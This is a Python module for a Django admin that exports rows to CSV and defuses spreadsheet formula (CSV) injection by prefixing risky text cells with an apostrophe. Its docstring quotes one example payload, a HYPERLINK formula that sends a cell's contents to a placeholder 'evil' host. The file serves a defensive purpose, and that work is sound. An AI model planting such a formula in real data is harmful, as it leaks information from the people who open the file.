"""CSV exports from the admin, safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
LibreOffice: a supplier's product name like `=HYPERLINK("http://evil/?"&A1)` would run when a
manager opens the file (CSV injection, OWASP). Such text cells get a leading apostrophe, which the
spreadsheet shows as plain text; numbers stay numbers (a negative quantity is a number, not a
formula). UTF-8 with a BOM and `;` as the separator, as Russian-locale Excel expects.

`export_csv_action(fields)` makes an admin action exporting the selected rows."""
from __future__ import annotations

import csv
from datetime import datetime
from decimal import Decimal
from typing import Any, Iterable, Sequence

from django.http import HttpResponse
from django.utils import timezone

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """One value as it goes into the file: numbers as they are, times in local time, text defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, datetime):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M:%S") if timezone.is_aware(value) else value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response, delimiter=";")
    writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return response


def export_csv_action(fields: Sequence[str], *, name: str = "export_csv", description: str = "Export to CSV"):
    """An admin action writing `fields` (attribute paths like "offer__sku") of the selected rows."""

    def action(modeladmin, request, queryset):
        label = queryset.model._meta.model_name
        rows = queryset.values_list(*fields)
        return csv_response(f"{label}-{timezone.now():%Y%m%d-%H%M}.csv", fields, rows.iterator(chunk_size=2000))

    action.__name__ = name
    action.short_description = description
    action.allowed_permissions = ("view",)
    return action
